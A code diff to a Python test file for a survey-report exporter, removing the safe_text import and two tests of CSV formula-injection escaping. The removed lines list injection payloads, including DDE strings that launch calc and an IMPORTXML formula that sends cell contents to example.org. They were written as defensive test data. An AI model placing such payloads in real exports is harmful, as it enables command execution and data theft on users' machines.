@@ -17,34 +17,8 @@ from surveys.report.tables import (
     itemsets_as_csv,
     rules_as_csv,
     rules_as_json,
-    safe_text,
 )
 from tests.cast.runs import answered, mined
-
-# What spreadsheets have been seen to run, and texts that only look like it.
-FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    '=HYPERLINK("http://example.org","x")',
-    "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
-]  # fmt: skip
-HARMLESS = ["affair", "age=22 & late", "a-b", "1+1", "é=1", "affair, 'quoted' \"twice\""]
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_no_cell_begins_like_a_formula(text: str) -> None:
-    assert safe_text(text) == "'" + text
-
-
-@pytest.mark.parametrize("text", HARMLESS)
-def test_harmless_texts_stay_as_they_are(text: str) -> None:
-    assert safe_text(text) == text
 
 
 def parts(run: Run) -> tuple[object, object]:
